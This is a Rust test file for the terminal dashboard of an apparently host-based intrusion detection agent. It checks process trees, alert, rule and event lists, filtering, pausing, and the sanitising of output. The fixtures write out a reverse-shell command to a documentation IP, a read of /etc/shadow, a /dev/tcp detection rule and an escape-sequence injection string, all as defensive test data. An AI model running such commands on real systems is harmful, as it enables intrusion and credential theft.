//! What is pressed, what comes, and what is then on the screen.

use daemoneye_bus::alert::Severity;
use daemoneye_bus::event::{Event, Field, Kind};
use proptest::prelude::*;
use ratatui::Terminal;
use ratatui::backend::TestBackend;

use super::draw::draw;
use super::model::{Message, Mode, Model};
use super::state::Fact;
use super::view::{Key, View};
use crate::render::samples::{self, HOSTILE, look};

const SECOND: i64 = 1_000_000;

fn model(width: u16, height: u16) -> Model {
    Model::new(look(width), height)
}

fn press(model: &mut Model, keys: &[Key]) {
    keys.iter().for_each(|key| model.update(Message::Key(*key)));
}

fn write(model: &mut Model, letters: &str) {
    letters.chars().for_each(|letter| model.update(Message::Key(Key::Letter(letter))));
}

fn start(pid: i64, ppid: i64, name: &str, command: &str) -> Event {
    Event::new(Kind::Exec, samples_now() - 12 * SECOND)
        .with(Field::Pid, pid)
        .with(Field::ProcessKey, pid.to_string().as_str())
        .with(Field::ParentPid, ppid)
        .with(Field::ParentKey, ppid.to_string().as_str())
        .with(Field::StartTime, samples_now() - 12 * SECOND)
        .with(Field::UserName, "ada")
        .with(Field::Name, name)
        .with(Field::CommandLine, command)
}

fn samples_now() -> i64 {
    look(80).now
}

/// An agent that sees a shell, a reverse shell and its end.
fn busy(width: u16, height: u16, text: &str) -> Model {
    let mut model = model(width, height);
    let stop = Event::new(Kind::Stop, samples_now() - SECOND).with(Field::ExitCode, 1);
    let stop = stop.with(Field::Pid, 43).with(Field::ProcessKey, "43");
    let mut alert = samples::alert(text, Severity::High);
    alert.event.insert("process_key".to_owned(), "42".into());
    let events = vec![
        start(1, 0, "systemd", "/sbin/init"),
        start(20, 1, "sshd", "sshd: ada"),
        start(42, 20, "bash", text),
        start(43, 42, "cat", "cat /etc/shadow"),
        stop,
    ];
    model.update(Message::Time(samples_now()));
    for fact in [
        Fact::Connected,
        Fact::Events(events),
        Fact::Status(Box::new(samples::status())),
        Fact::Rules(vec![samples::rule("shell-dev-tcp"), samples::rule(text)]),
        Fact::Alerts(vec![(1, alert)]),
    ] {
        model.update(Message::Fact(fact));
    }
    model.update(Message::Time(samples_now() + SECOND));
    model
}

/// The screen as lines without the blanks at their ends.
fn screen(model: &Model) -> Vec<String> {
    let backend = TestBackend::new(model.look.width, model.height);
    let mut terminal = Terminal::new(backend).expect("memory");
    terminal.draw(|frame| draw(frame, model)).expect("memory");
    let buffer = terminal.backend().buffer();
    let line = |y| (0..buffer.area.width).map(|x| buffer[(x, y)].symbol()).collect::<String>();
    (0..buffer.area.height).map(|y| line(y).trim_end().to_owned()).collect()
}

#[track_caller]
fn assert_shows(model: &Model, expected: &str) {
    let found = screen(model).join("\n");
    assert_eq!(found.trim_end(), expected.trim_end(), "\n{found}");
}

#[test]
fn processes_are_a_tree_with_their_alerts() {
    let expected = " 1 Processes  2 Alerts  3 Rules  4 Events  5 Health
DEGRADED  5 events/s  3 processes  1 alerts                                    █
    PID USER          AGE ALERTS PROCESS
      1 ada           13s        systemd  /sbin/init
     20 ada           13s        └ sshd  sshd: ada
     42 ada           13s      1   └ bash  bash -i >& /dev/tcp/192.0.2.1/443
     43 ada           11s            └ cat (exit 1)  cat /etc/shadow



q end  ? keys  Enter details  / filter  p pause  Tab next";
    assert_shows(&busy(80, 11, "bash -i >& /dev/tcp/192.0.2.1/443"), expected);
}

#[test]
fn twenty_columns_show_what_matters() {
    let expected = " 1 Processes  2  3
DEGRADED  5 events/s
PROCESS
systemd  /sbin/init
└ sshd  sshd: ada
  └ bash  bash -i >&
    └ cat (exit 1)


q end  ? keys  Enter";
    assert_shows(&busy(20, 10, "bash -i >& /dev/tcp/192.0.2.1/443"), expected);
}

#[test]
fn alerts_rules_and_events_are_lists() {
    let mut model = busy(80, 8, "bash -i");
    press(&mut model, &[Key::Letter('2')]);
    let expected = " 1 Processes  2 Alerts  3 Rules  4 Events  5 Health
DEGRADED  5 events/s  3 processes  1 alerts                                    █
SEVERITY TIME     RULE                   WHAT
high     00:00:01 shell-dev-tcp          Shell opens /dev/tcp: pid 42, bash -i



q end  ? keys  Enter details  / filter  p pause  Tab next";
    assert_shows(&model, expected);
    press(&mut model, &[Key::Tab]);
    let expected = " 1 Processes  2 Alerts  3 Rules  4 Events  5 Health
DEGRADED  5 events/s  3 processes  1 alerts                                    █
RULE                      STATE          HITS    JUDGED UNJUDGED        MS  COST
bash -i                   active            3        10        3       1.5  50 %
shell-dev-tcp             active            3        10        3       1.5  50 %


q end  ? keys  Enter details  / filter  p pause  Tab next";
    assert_shows(&model, expected);
    press(&mut model, &[Key::Tab]);
    let expected = " 1 Processes  2 Alerts  3 Rules  4 Events  5 Health
DEGRADED  5 events/s  3 processes  1 alerts                                    █
TIME     KIND           PID USER       WHAT
02:04:59 stop            43
02:04:48 exec            43 ada        cat /etc/shadow
02:04:48 exec            42 ada        bash -i
02:04:48 exec            20 ada        sshd: ada
q end  ? keys  Enter details  / filter  p pause  Tab next";
    assert_shows(&model, expected);
}

#[test]
fn a_tall_screen_has_a_picture_of_the_rate() {
    let mut model = busy(80, 24, "bash -i");
    press(&mut model, &[Key::Letter('4')]);
    let screen = screen(&model);
    assert_eq!(screen[2], "5 events in the last second, at most 5 in one of the last 1");
    assert!(screen[3..7].iter().all(|line| line.ends_with('█')), "{screen:#?}");
}

#[test]
fn health_begins_with_whether_it_is_complete_and_scrolls_to_its_end() {
    let mut model = busy(80, 24, "x");
    press(&mut model, &[Key::Letter('5')]);
    let top = screen(&model);
    assert_eq!(top[2], "complete    NO");
    assert_eq!(top[3], "            sink file: permission denied");
    assert_eq!(top[4], "            7 events lost before they came");
    press(&mut model, &[Key::End]);
    assert_eq!(screen(&model)[22], "degraded    sink file: permission denied");
    press(&mut model, &[Key::Down, Key::Up]);
    assert_eq!(
        screen(&model)[22],
        "            1,234 entries of rules' memory gone for want of room"
    );
}

#[test]
fn enter_tells_all_about_a_line_and_escape_leads_back() {
    let mut model = busy(80, 24, "bash -i");
    press(&mut model, &[Key::Down, Key::Down, Key::Enter]);
    let said = screen(&model).join("\n");
    for expected in ["process     bash, pid 42", "alerts      1", "started by  20 sshd sshd: ada"] {
        assert!(said.contains(expected), "{expected:?} is not in\n{said}");
    }
    press(&mut model, &[Key::Escape]);
    assert_eq!(model.mode, Mode::List);
    for (key, expected) in [('2', "because"), ('3', "1,000 offered ="), ('4', "exit_code: 1")] {
        press(&mut model, &[Key::Letter(key), Key::Enter]);
        let said = screen(&model).join("\n");
        assert_eq!(said.contains(expected), expected != "because", "{said}");
        press(&mut model, &[Key::Escape]);
    }
}

#[test]
fn a_filter_shows_what_has_the_text_with_its_ancestors_until_escape() {
    let mut model = busy(80, 9, "bash -i");
    press(&mut model, &[Key::Letter('/')]);
    write(&mut model, "SSHDq");
    assert!(!model.over, "letters are text here");
    press(&mut model, &[Key::Backspace, Key::Enter]);
    let lines = screen(&model);
    assert!(lines[4].ends_with("└ sshd  sshd: ada"), "{lines:#?}");
    assert_eq!((lines[5].as_str(), &lines[8][..6]), ("", "/SSHD "));
    press(&mut model, &[Key::Escape]);
    assert_eq!(model.lines().len(), 4);
}

#[test]
fn the_chosen_line_stays_chosen_while_others_come_and_the_first_follows_what_is_new() {
    let mut model = busy(80, 24, "bash -i");
    press(&mut model, &[Key::Letter('4')]);
    let chosen = |model: &Model| {
        let lines = model.lines();
        let place = lines.place(model.chosen());
        (place, lines.id(place))
    };
    let first = chosen(&model);
    press(&mut model, &[Key::Down]);
    let second = chosen(&model);
    model.update(Message::Fact(Fact::Events(vec![start(50, 1, "cron", "cron")])));
    assert_eq!(chosen(&model), (2, second.1));
    press(&mut model, &[Key::Home]);
    assert_ne!(chosen(&model).1, first.1);
}

#[test]
fn while_it_is_paused_nothing_moves_and_nothing_is_lost() {
    let mut model = busy(80, 12, "bash -i");
    press(&mut model, &[Key::Letter('p')]);
    let before = screen(&model);
    assert!(before[11].starts_with("PAUSED "), "{before:#?}");
    model.update(Message::Fact(Fact::Events(vec![start(50, 1, "cron", "cron")])));
    assert_eq!(screen(&model), before);
    press(&mut model, &[Key::Letter('p')]);
    assert_eq!(model.state().events.len(), 6);
}

#[test]
fn when_the_agent_goes_it_is_said_and_what_was_known_stays_until_it_is_back() {
    let mut model = busy(80, 12, "bash -i");
    model.update(Message::Fact(Fact::Gone("the agent has gone: \x1b[2J".to_owned())));
    let lines = screen(&model);
    let said = "NO AGENT, trying again: the agent has gone: \\u{1b}[2J ";
    assert!(lines[1].starts_with(said), "{lines:#?}");
    assert!(lines[3].ends_with("systemd  /sbin/init"), "{lines:#?}");
    model.update(Message::Fact(Fact::Connected));
    assert!(screen(&model)[1].starts_with("asking  "));
}

#[test]
fn what_was_dropped_is_told() {
    let mut model = busy(80, 12, "bash -i");
    model.update(Message::Fact(Fact::Shed(7)));
    assert!(screen(&model)[1].contains("7 not shown"), "{:?}", screen(&model)[1]);
}

#[test]
fn every_view_and_page_is_reached_and_left_by_keys() {
    let mut model = busy(80, 24, "bash -i");
    for (place, view) in View::ALL.into_iter().enumerate() {
        let digit = char::from_digit(u32::try_from(place).expect("few") + 1, 10).expect("a digit");
        press(&mut model, &[Key::Letter(digit)]);
        assert_eq!(model.view, view);
    }
    press(&mut model, &[Key::Tab]);
    assert_eq!(model.view, View::Processes);
    press(&mut model, &[Key::BackTab, Key::Letter('?')]);
    assert_eq!((model.view, model.mode), (View::Health, Mode::Help));
    assert!(screen(&model).iter().any(|line| line.starts_with("q, Ctrl-C   end")));
    for end in [Key::Letter('q'), Key::Interrupt] {
        let mut model = busy(80, 24, "x");
        press(&mut model, &[Key::Letter('?'), end]);
        assert!(model.over);
    }
    press(&mut model, &[Key::Escape, Key::Letter('/'), Key::Interrupt]);
    assert!(model.over);
}

#[test]
fn without_colours_there_are_none() {
    for (colours, some) in [(false, false), (true, true)] {
        let mut model = busy(80, 24, "bash -i");
        model.look.colours = colours;
        let mut terminal = Terminal::new(TestBackend::new(80, 24)).expect("memory");
        terminal.draw(|frame| draw(frame, &model)).expect("memory");
        let is_coloured = |cell: &ratatui::buffer::Cell| {
            cell.fg != ratatui::style::Color::Reset || cell.bg != ratatui::style::Color::Reset
        };
        assert_eq!(terminal.backend().buffer().content.iter().any(is_coloured), some);
    }
}

fn key() -> impl Strategy<Value = Key> {
    prop_oneof![
        any::<char>().prop_map(Key::Letter),
        proptest::sample::select("12345jkgGp?/".chars().collect::<Vec<_>>()).prop_map(Key::Letter),
        proptest::sample::select(vec![
            Key::Enter,
            Key::Escape,
            Key::Backspace,
            Key::Tab,
            Key::BackTab,
            Key::Up,
            Key::Down,
            Key::PageUp,
            Key::PageDown,
            Key::Home,
            Key::End,
        ]),
    ]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]
    #[test]
    fn whatever_is_pressed_on_whatever_screen_is_drawn_and_harmless(
        keys in proptest::collection::vec(key(), 0..20),
        (width, height) in (0u16..100, 0u16..40),
    ) {
        let mut model = busy(80, 24, HOSTILE);
        model.update(Message::Fact(Fact::Status(Box::new(samples::hostile()))));
        model.update(Message::Size(width, height));
        for key in keys {
            model.update(Message::Key(key));
            for line in screen(&model) {
                prop_assert!(!line.chars().any(samples::is_hostile), "{line:?}");
            }
        }
    }
}
